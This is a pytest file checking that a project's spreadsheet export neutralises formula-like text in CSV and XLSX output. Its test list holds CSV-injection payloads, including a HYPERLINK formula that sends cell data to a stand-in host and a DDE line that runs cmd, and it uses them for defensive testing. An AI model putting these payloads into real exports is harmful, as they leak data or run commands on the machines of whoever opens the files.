"""Text a secretary typed never becomes a live formula in an exported CSV or XLSX."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from roundtable.archive.dashboard import Table
from roundtable.archive.exports import table_csv, table_xlsx
from roundtable.core.spreadsheet import neutralise

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_neutralised(text):
    assert neutralise(text).startswith("'")


@pytest.mark.parametrize("text", ["45%", "停车", "", "a=b", "3-2"])
def test_plain_text_stays_as_it_is(text):
    assert neutralise(text) == text


def test_exports_carry_no_formula():
    table = Table("themes", "每月一题", ["议题", "件数"], [[attack, 1] for attack in ATTACKS])
    rows = list(csv.reader(io.StringIO(table_csv(table).decode("utf-8-sig"))))
    assert all(row[0].startswith("'") for row in rows[1:])
    sheet = load_workbook(io.BytesIO(table_xlsx(table))).active
    for (cell, _count) in list(sheet.iter_rows(min_row=2)):
        assert cell.data_type == "s" and str(cell.value).startswith("'"), cell.value
